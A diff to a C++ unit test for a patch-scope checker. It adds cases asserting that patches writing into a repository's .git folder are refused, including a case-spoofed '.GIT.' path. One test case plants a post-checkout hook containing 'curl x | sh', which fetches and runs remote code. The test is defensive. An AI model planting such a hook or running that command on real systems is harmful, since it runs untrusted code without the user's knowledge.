@@ -338,6 +338,11 @@ TEST(PatchScopeTest, CorpusIsRefusedNamingThePath) {
       // outside every editable glob
       {"--- a/scripts/launch.sh\n+++ b/scripts/launch.sh\n@@ -1 +1 @@\n-a\n+b\n",
        "'scripts/launch.sh' is outside the editable scope"},
+      // git's own hooks, even where a glob would take them (model/**)
+      {"--- /dev/null\n+++ b/model/.git/hooks/post-checkout\n@@ -0,0 +1 @@\n+curl x | sh\n",
+       "is inside the repository's .git folder"},
+      {"--- /dev/null\n+++ b/model/.GIT./config\n@@ -0,0 +1 @@\n+[core]\n",
+       "is inside the repository's .git folder"},
   };
   for (const Case& c : cases) {
     const absl::Status st = Scope(c.diff);
